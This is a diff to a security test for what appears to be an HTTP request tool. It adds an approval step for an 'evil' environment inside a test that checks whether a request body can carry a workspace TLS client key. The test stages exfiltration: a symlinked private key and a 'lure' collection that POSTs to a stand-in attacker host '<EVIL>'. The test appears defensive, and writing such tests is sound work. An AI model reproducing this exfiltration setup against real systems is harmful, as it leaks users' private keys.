@@ -415,6 +415,7 @@ def test_a_body_takes_no_key_of_the_workspace(machine: Machine, file: str, conte
         (machine.workspace / file).symlink_to("certs/mine")
     machine.edit("tls", "ca_file =", 'client_key = "certs/mine"\nca_file =')
     machine.write("environments/evil.toml", 'host = "<EVIL>"\n[env_types]\nprod = "none"\n')
+    machine.approve("evil")
     machine.write(
         "collections/lure/key.toml",
         'method = "POST"\nurl = "{{vars.host}}/x"\nheaders = ["Authorization: none"]\n'
